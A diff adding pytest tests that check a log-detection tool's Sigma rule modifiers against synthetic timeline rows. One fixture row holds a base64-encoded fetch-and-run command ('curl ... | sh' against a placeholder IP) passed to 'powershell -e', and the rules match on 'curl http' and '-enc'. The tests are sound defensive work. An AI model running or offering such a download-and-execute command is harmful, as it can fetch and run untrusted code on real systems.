@@ -180,3 +180,55 @@ def test_shipped_rules_fire_on_their_stratus_techniques(stratus_by_technique: Pa
             checked += 1
     assert missed == []
     assert checked >= 44
+
+
+MODIFIER_RULES = {
+    # name: (detection selection, event ids (by label) it must match)
+    "base64offset": ("CommandLine|base64offset|contains: 'curl http'", {"b64"}),
+    "windash": ("CommandLine|windash|contains: ' -enc '", {"dash", "slash"}),
+    "gte": ("requestParameters.maxCount|gte: 50", {"many"}),
+    "lt": ("requestParameters.maxCount|lt: 2", {"one"}),
+    "is_null": ("requestParameters.maxCount: null", {"b64", "dash", "slash", "kw", "keyref"}),
+    "fieldref": ("userName|fieldref: requestParameters.userName", {"keyref"}),
+    "keyword": ("'Evil-Marker'", {"kw"}),
+}
+
+
+@pytest.fixture(scope="module")
+def modifier_case(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
+    """Rows built so that each modifier has a hit and a near miss among them."""
+    import base64
+
+    from tests.timeline_rows import timeline_row, write_timeline
+
+    encoded = base64.b64encode(b"xx curl http://198.51.100.9/x | sh").decode()
+    raws = {
+        "b64": {"CommandLine": f"powershell -e {encoded}"},
+        "dash": {"CommandLine": "powershell -enc AAAA"},
+        "slash": {"CommandLine": "powershell /enc AAAA"},
+        "many": {"requestParameters": {"maxCount": 60}},
+        "one": {"requestParameters": {"maxCount": 1}},
+        "kw": {"message": "an evil-marker in text"},
+        "keyref": {"userName": "Alice", "requestParameters": {"userName": "alice"}},
+        "other": {"userName": "bob", "requestParameters": {"userName": "alice", "maxCount": 2}},
+    }
+    rows = [
+        timeline_row("aws:cloudtrail", f"2026-01-01T10:00:0{n}Z", raw)
+        for n, raw in enumerate(raws.values())
+    ]
+    case = tmp_path_factory.mktemp("modifiers") / "case"
+    write_timeline(case, rows)
+    return case, {row["event_id"]: label for row, label in zip(rows, raws, strict=True)}
+
+
+@pytest.mark.parametrize("name", sorted(MODIFIER_RULES))
+def test_sigma_modifiers_match_what_sigma_means(
+    modifier_case: tuple[Path, dict[str, str]], tmp_path: Path, name: str
+) -> None:
+    case, label_of = modifier_case
+    selection, expected = MODIFIER_RULES[name]
+    body = f"  s:\n    - {selection}\n" if name == "keyword" else f"  s:\n    {selection}\n"
+    write_rule(tmp_path, name, f"detection:\n{body}  condition: s\n", "low")
+    _, doc = run(case, tmp_path)
+    [finding] = doc["findings"] or [{"event_ids": []}]
+    assert {label_of[e] for e in finding["event_ids"]} == expected
